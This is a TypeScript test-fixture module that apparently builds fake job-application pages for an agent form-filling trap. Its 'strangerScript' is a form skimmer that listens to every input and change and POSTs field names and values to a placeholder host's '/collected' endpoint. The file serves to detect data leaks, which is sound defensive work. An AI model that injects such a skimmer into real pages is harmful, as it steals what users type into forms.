import type { Stage } from '../attack';
import { trapClient } from '../stage/trap-client';

/** Markup of one field. */
export const field = (label: string, name: string, attributes = 'type="text"'): string =>
  `<p><label for="${name}">${label}</label> <input id="${name}" name="${name}" ${attributes}></p>`;

export const tick = (label: string, name: string): string =>
  `<p><input type="checkbox" id="${name}" name="${name}"> <label for="${name}">${label}</label></p>`;

/** What every application asks. */
export const contactFields = [
  field('First name', 'first_name'),
  field('Last name', 'last_name'),
  field('E-mail', 'email', 'type="email"'),
  field('Phone', 'phone', 'type="tel"'),
].join('\n');

/** An application form on the site itself, with more of its own within. */
export const applicationPage = (
  within = '',
  { button = '<button>Submit application</button>', action = '/applications' } = {},
) =>
  `<title>Apply: Platform engineer, Acme</title><main><h1>Apply for Platform engineer</h1>
<form method="post" action="${action}">
${contactFields}
${within}
${button}
</form></main>`;

/** A posting without a form. */
export const postingPage = (within = ''): string =>
  `<title>Platform engineer, Acme</title><main><h1>Platform engineer</h1><p>Acme looks for a platform engineer in Bristol. You would look
after what our teams build on.</p>${within}</main>`;

/** What a stranger's frame watches itself with, where no server puts it in, and with what it tells that it is one. */
export const strangerScript = `<script>${trapClient}</script><script>
  trap.note('stranger');
  const tell = (text) => parent.postMessage({ saw: text }, '*');
  for (const type of ['input', 'change']) addEventListener(type, ({ target }) => {
    tell(target.value);
    fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', body: target.name + '=' + target.value });
  }, true);
</script>`;

/** What the page over it keeps of that. */
export const hearFrames = `<script>addEventListener('message', ({ data }) => { if (data?.saw) trap.note('saw', data.saw); });</script>`;

/** A fill of one page of the site. `settleMs`: what the page may still do after it, in milliseconds. */
export const fillOf = (page: string, settleMs = 600): Stage => ({
  run: { kind: 'fill' },
  settleMs,
  pages: { site: { '/': page } },
});
